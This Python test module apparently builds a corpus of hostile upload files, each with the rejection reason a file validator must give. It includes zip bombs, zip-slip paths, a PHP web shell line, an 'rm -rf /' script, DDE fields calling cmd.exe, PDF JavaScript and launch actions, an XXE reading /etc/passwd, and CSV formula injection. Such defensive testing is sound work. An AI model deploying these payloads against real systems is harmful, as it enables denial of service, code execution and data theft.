"""Hostile files, each made by the code beside it, with the name it would come under and the reason it must get."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests.storage import files
from tests.storage.files import archive, ofd, office, pdf, picture, relation, relations, stream, zipped

MEGABYTE = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""Harmless; every virus scanner reports it."""
PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
NAME = "现场照片"


@dataclass(frozen=True)
class Hostile:
    """One file: what it is called, how it is made, why it is refused."""

    story: str
    name: str
    make: Callable[[], bytes]
    code: str

    @property
    def content(self) -> bytes:
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def word(**extra: str | bytes) -> bytes:
    return office(files.WORD, "word", **extra)


def excel(**extra: str | bytes) -> bytes:
    return office(files.EXCEL, "xl", **extra)


def related(*relations_of_main: str) -> bytes:
    return word(**{"word___rels__main.xml.rels": relations("", *relations_of_main)})


def bomb() -> bytes:
    """600 MB of nothing in 600 KB."""
    return zipped({"a.txt": b"\0" * (600 * MEGABYTE // 10)} | {f"{n}.txt": b"\0" * 60_000_000 for n in range(3)}, 8)


def lying(size: int = 1000) -> bytes:
    """The directory and the part's own header say 1,000 bytes; 150 MB come out."""
    content = bytearray(zipped({"a.txt": b"\0" * (150 * MEGABYTE)}, zipfile.ZIP_DEFLATED))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<L", content, content.index(mark) + offset, size)
    return bytes(content)


def renamed_inside() -> bytes:
    """The directory says a.txt, the part itself says a.exe."""
    return archive(**{"a.txt": "x"}).replace(b"a.txt", b"a.exe", 1)


def overlapping() -> bytes:
    """Two names in the directory for the same bytes, as in bombs that do not nest."""
    content = bytearray(archive(**{"a.txt": "x" * 100, "b.txt": "y" * 100}))
    second = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 1)
    struct.pack_into("<L", content, second + 42, 0)
    return bytes(content)


def special(kind: int, content: str = "/etc/passwd") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = kind << 16
        file.writestr(entry, content)
    return buffer.getvalue()


def named(name: str) -> bytes:
    return zipped({name: "x"})


def nul_inside() -> bytes:
    return named("a.txt_.exe").replace(b"a.txt_", b"a.txt\0")


def twice() -> bytes:
    return named("a.txt")[:0] + zipped({"a.txt": "x", "A.TXT": "y"})


def crowded() -> bytes:
    return zipped({f"{n}.txt": "x" for n in range(2001)})


def squeezed() -> bytes:
    return zipped({"a.txt": "x" * 100}, zipfile.ZIP_LZMA)


def damaged() -> bytes:
    """One byte of a part changed: its sum is wrong."""
    return archive(**{"a.txt": "hello hello"}).replace(b"hello hello", b"hello_hello")


def nested(depth: int = 5) -> bytes:
    content = zipped({"a.txt": b"\0" * MEGABYTE}, zipfile.ZIP_DEFLATED)
    for _ in range(depth):
        content = archive(**{"inner.zip": content})
    return content


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    body = f'<w:document xmlns:w="w"><w:body><w:p>{begin}{runs}{end}</w:p></w:body></w:document>'
    return word(**{"word__main.xml": body})


def flooded_png() -> bytes:
    """A picture of 60,000 × 60,000 white points in some hundred bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">LLBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9000)) + chunk(b"IEND", b"")
    )


def photo() -> bytes:
    return picture("JPEG", (400, 300))


def moving(kind: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def deep_pdf() -> bytes:
    return pdf(catalog="/X " + "[" * 5000 + "]" * 5000)


def hidden_script() -> bytes:
    """The script stands in a compressed object stream, its name written with escapes."""
    import pikepdf  # noqa: PLC0415 -- only here

    with pikepdf.open(io.BytesIO(pdf(SCRIPT, catalog="/OpenAction 4 0 R"))) as file:
        out = io.BytesIO()
        file.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def locked_pdf() -> bytes:
    import pikepdf  # noqa: PLC0415 -- only here

    with pikepdf.open(io.BytesIO(pdf())) as file:
        out = io.BytesIO()
        file.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def carrying(content: str) -> bytes:
    """A PDF with this attached."""
    return pdf(
        "<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>",
        stream(content, "/Type /EmbeddedFile"),
        catalog="/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
    )


def many_pages() -> bytes:
    import pikepdf  # noqa: PLC0415 -- only here

    with pikepdf.new() as file:
        file.add_blank_page()
        for _ in range(2000):
            file.pages.append(file.pages[0])
        out = io.BytesIO()
        file.save(out)
    return out.getvalue()


def deep_xml() -> bytes:
    return b"<a>" * 50_000 + b"</a>" * 50_000


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><x>&l9;</x>'.encode()


CORPUS = tuple(
    Hostile(*row)
    for row in (
        # Renamed
        ("empty", "a.pdf", lambda: b"", "empty"),
        ("a program called PDF", "申报书.pdf", lambda: files.EXE, "executable"),
        ("a Linux program called ZIP", "a.zip", lambda: files.ELF, "executable"),
        ("a shell script called text", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "executable"),
        ("a PHP page called photo", f"{NAME}.jpg", lambda: b"<?php system($_GET['x']); ?>", "executable"),
        ("a web page called PDF", "a.pdf", lambda: PAGE, "web_page"),
        ("a web page called text", "a.txt", lambda: PAGE, "web_page"),
        ("a drawing called photo", "a.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "svg"),
        (
            "a drawing in UTF-16",
            "a.xml",
            lambda: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16"),
            "svg",
        ),
        ("an old Word file called new", "a.docx", lambda: files.OLD_WORD, "old_office"),
        ("a table called document", "a.docx", excel, "mismatch"),
        ("a ZIP called Word", "a.docx", lambda: archive(**{"virus.txt": "MZ"}), "mismatch"),
        ("slides called document", "a.docx", lambda: office(files.SLIDES, "ppt"), "slides"),
        ("a GIF that is a script", "a.jpg", lambda: b"GIF89a/*" + PAGE + b"*/=1;", "gif"),
        ("a RAR called ZIP", "a.zip", lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 64, "archive"),
        ("noise called text", "a.txt", lambda: bytes(range(256)) * 4, "unknown"),
        # Names
        ("a bidi override that hides .exe", "材料\u202efdp.exe", lambda: files.PDF, "executable"),
        ("a NUL that hides .exe", "a.pdf\0.exe", lambda: files.PDF, "executable"),
        ("360 Chinese characters and a program", "证" * 360 + ".exe", lambda: files.PDF, "executable"),
        ("360 Chinese characters and no suffix", "证" * 360, lambda: files.PDF, "suffix"),
        ("a path that ends in nothing", "../../etc/passwd", lambda: files.PDF, "suffix"),
        ("a settings file of a web server", ".htaccess", lambda: b"Options +ExecCGI\n", "suffix"),
        ("full-width letters in the suffix", "a．ｐｄｆ", lambda: files.PDF, "suffix"),
        # ZIP
        ("a bomb", "a.zip", bomb, "bomb"),
        ("a bomb that lies about its size", "a.zip", lying, "lying"),
        ("bombs in bombs", "a.zip", nested, "nested"),
        ("two names for the same bytes", "a.zip", overlapping, "lying"),
        ("another name inside than outside", "a.zip", renamed_inside, "lying"),
        ("a slip", "a.zip", lambda: named("../../etc/cron.d/x.txt"), "slip"),
        ("a slip with backslashes", "a.zip", lambda: named("..\\..\\windows\\x.txt"), "slip"),
        ("an absolute path", "a.zip", lambda: named("/etc/passwd.txt"), "slip"),
        ("a drive", "a.zip", lambda: named("C:/windows/x.txt"), "slip"),
        ("a symbolic link", "a.zip", lambda: special(0o120777), "link"),
        ("a device", "a.zip", lambda: special(0o020666), "link"),
        ("a NUL in a name", "a.zip", nul_inside, "bad_name"),
        ("a bidi override in a name", "a.zip", lambda: named("a\u202etxt.exe"), "bad_name"),
        ("a name of 600 Chinese characters", "a.zip", lambda: named("证" * 600 + ".txt"), "bad_name"),
        ("one name twice", "a.zip", twice, "duplicate"),
        ("2,001 parts", "a.zip", crowded, "too_many_entries"),
        ("a password", "a.zip", files.locked_archive, "encrypted"),
        ("a rare method", "a.zip", squeezed, "method"),
        ("a damaged part", "a.zip", damaged, "broken"),
        ("cut off", "a.zip", lambda: archive(**{"a.txt": "x" * 5000})[:3000], "broken"),
        ("a program inside", "a.zip", lambda: archive(**{"材料.exe": files.EXE}), "executable"),
        ("a renamed program inside", "a.zip", lambda: archive(**{"材料.pdf": files.EXE}), "executable"),
        ("a web page inside", "a.zip", lambda: archive(**{"a.txt": PAGE}), "web_page"),
        (
            "a Word file with macros inside",
            "a.zip",
            lambda: archive(**{"a.docx": word(**{"word__vbaProject.bin": "x"})}),
            "macro",
        ),
        (
            "a PDF with a script inside",
            "a.zip",
            lambda: archive(**{"a.pdf": pdf(catalog=f"/OpenAction {SCRIPT}")}),
            "pdf_script",
        ),
        ("EICAR in ZIP in ZIP", "a.zip", lambda: archive(**{"b.zip": archive(**{"e.txt": EICAR})}), "nested"),
        ("a page before a ZIP", "a.zip", lambda: PAGE + archive(**{"a.txt": "x"}), "polyglot"),
        ("something behind a ZIP", "a.zip", lambda: archive(**{"a.txt": "x"}) + b"MZ" * 100, "polyglot"),
        # Office
        ("a macro", "a.docx", lambda: word(**{"word__vbaProject.bin": "x"}), "macro"),
        ("a macro's type", "a.docx", lambda: office(files.MACRO, "word"), "macro"),
        ("old macros of Excel", "a.xlsx", lambda: excel(**{"xl__macrosheets__sheet1.xml": "<x/>"}), "macro"),
        ("an object", "a.docx", lambda: word(**{"word__embeddings__oleObject1.bin": "x"}), "embedded"),
        ("a control", "a.docx", lambda: word(**{"word__activeX__activeX1.xml": "<x/>"}), "embedded"),
        (
            "a template from elsewhere",
            "a.docx",
            lambda: related(relation("attachedTemplate", "http://x/a.dotm")),
            "external",
        ),
        ("a picture from elsewhere", "a.docx", lambda: related(relation("image", "https://x/pixel.png")), "external"),
        ("a link that runs", "a.docx", lambda: related(relation("hyperlink", "javascript:alert(1)")), "external"),
        ("another table", "a.xlsx", lambda: excel(**{"xl__externalLinks__externalLink1.xml": "<x/>"}), "external"),
        ("a field that calls", "a.docx", lambda: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "dde"),
        ("a field that calls, in pieces", "a.docx", lambda: field(" D", "DE", "AUTO c:\\\\cmd.exe"), "dde"),
        ("an entity in Word", "a.docx", lambda: word(**{"word__main.xml": laughs()}), "xml_active"),
        (
            "a bomb called Word",
            "a.docx",
            lambda: zipped({"[Content_Types].xml": b" " * 60_000_000, "word/document.xml": b" " * 60_000_000}, 8),
            "bomb",
        ),
        ("no document in it", "a.docx", lambda: archive(**{"[Content_Types].xml": "<Types/>"}), "not_office"),
        ("cut off Word", "a.docx", lambda: word()[:300], "broken"),
        # OFD
        ("a script in OFD", "a.ofd", lambda: ofd(**{"Doc_0__Res.xml": "<ofd:Script>x</ofd:Script>"}), "ofd_active"),
        ("a program in OFD", "a.ofd", lambda: ofd(**{"Doc_0__Attachs__a.exe": files.EXE}), "ofd_active"),
        ("an OFD of nothing", "a.ofd", lambda: archive(**{"OFD.xml": "<OFD/>"}), "not_ofd"),
        (
            "an OFD that points outside",
            "a.ofd",
            lambda: archive(**{"OFD.xml": "<OFD><DocRoot>http://x/D.xml</DocRoot></OFD>"}),
            "ofd_active",
        ),
        # PDF
        ("a script", "a.pdf", lambda: pdf(catalog=f"/OpenAction {SCRIPT}"), "pdf_script"),
        ("a hidden script", "a.pdf", hidden_script, "pdf_script"),
        ("an escaped script", "a.pdf", lambda: pdf(page="/AA << /O << /S /J#61vaScript /J#53 (x) >> >>"), "pdf_script"),
        (
            "a script of the whole file",
            "a.pdf",
            lambda: pdf(SCRIPT, catalog="/Names << /JavaScript << /Names [(x) 4 0 R] >> >>"),
            "pdf_script",
        ),
        ("a program to start", "a.pdf", lambda: pdf(page="/AA << /O << /S /Launch /F (cmd.exe) >> >>"), "pdf_launch"),
        (
            "data that leaves",
            "a.pdf",
            lambda: pdf(catalog="/OpenAction << /S /SubmitForm /F (http://x) >>"),
            "pdf_action",
        ),
        ("an attached program", "a.pdf", lambda: carrying("MZ..."), "pdf_attachment"),
        (
            "an attached web page",
            "a.pdf",
            lambda: carrying('<html xmlns="http://www.w3.org/1999/xhtml"/>'),
            "pdf_attachment",
        ),
        ("a film", "a.pdf", lambda: pdf("<< /Type /Annot /Subtype /RichMedia >>", page="/Annots [4 0 R]"), "pdf_media"),
        ("a living form", "a.pdf", lambda: pdf(catalog="/AcroForm << /XFA [] /Fields [] >>"), "pdf_xfa"),
        ("a PDF with a password", "a.pdf", locked_pdf, "encrypted"),
        ("cut off PDF", "a.pdf", lambda: pdf()[:-40], "truncated"),
        ("a head only", "a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n", "truncated"),
        ("no page", "a.pdf", lambda: pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0"), "pdf_empty"),
        ("2,001 pages", "a.pdf", many_pages, "pdf_pages"),
        ("a PDF that is a web page", "a.pdf", lambda: pdf() + PAGE, "polyglot"),
        ("a PDF that is a ZIP", "a.pdf", lambda: pdf() + archive(**{"a.exe": files.EXE}), "polyglot"),
        ("a PDF that is a program", "a.pdf", lambda: pdf() + files.EXE * 30, "polyglot"),
        (
            "a picture of 40,000 × 40,000",
            "a.pdf",
            lambda: pdf(stream("x", "/Subtype /Image /Width 40000 /Height 40000")),
            "pdf_pixels",
        ),
        (
            "streams packed nine times",
            "a.pdf",
            lambda: pdf(stream("x", f"/Filter [{'/FlateDecode ' * 9}]")),
            "too_complex",
        ),
        ("brackets without end", "a.pdf", deep_pdf, "broken"),
        # Images
        ("a flood of pixels", "a.png", flooded_png, "pixels"),
        ("cut off photo", f"{NAME}.jpg", lambda: photo()[: len(photo()) // 2], "truncated"),
        ("cut off PNG", "a.png", lambda: picture("PNG", (300, 300), "L")[:-30], "truncated"),
        ("a photo that is a web page", f"{NAME}.jpg", lambda: photo() + PAGE, "polyglot"),
        ("a photo that is a ZIP", f"{NAME}.jpg", lambda: photo() + archive(**{"a.txt": "x"}), "polyglot"),
        ("a photo that is a program", f"{NAME}.jpg", lambda: photo() + files.EXE, "polyglot"),
        (
            "a script in a remark",
            f"{NAME}.jpg",
            lambda: picture("JPEG", (8, 8), comment=b"<script>alert(1)</script>"),
            "polyglot",
        ),
        ("a PNG with a PHP page behind", "a.png", lambda: files.PNG + b"<?php system('x');", "polyglot"),
        ("a moving WebP", "a.webp", lambda: moving("WEBP"), "animated"),
        ("a moving PNG", "a.png", lambda: moving("PNG"), "animated"),
        ("noise called HEIC", "a.heic", lambda: files.HEIC[:24] + b"\xff" * 500, "broken"),
        # Text and XML
        ("a billion laughs", "a.xml", laughs, "xml_active"),
        (
            "a file from the server",
            "a.xml",
            lambda: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
            "xml_active",
        ),
        (
            "a style sheet",
            "a.xml",
            lambda: b'<?xml-stylesheet type="text/xsl" href="http://x/a.xsl"?><x/>',
            "xml_active",
        ),
        ("50,000 deep", "a.xml", deep_xml, "xml_deep"),
        ("cut off XML", "a.xml", lambda: b"<EInvoice><Header>", "xml_broken"),
        (
            "a web page in XML",
            "a.xml",
            lambda: b'<x><h:script xmlns:h="http://www.w3.org/1999/xhtml"/></x>',
            "web_page",
        ),
        ("a table that calls", "a.csv", lambda: "姓名,电话\n=cmd|' /C calc'!A0,1\n".encode("gbk"), "dde"),
        ("a NUL in a text", "a.txt", lambda: b"a" * 2_000_000 + b"\0", "unknown"),
    )
)


def oversized() -> Iterator[bytes]:
    """21 MB, in pieces."""
    yield from (b"x" * MEGABYTE for _ in range(21))
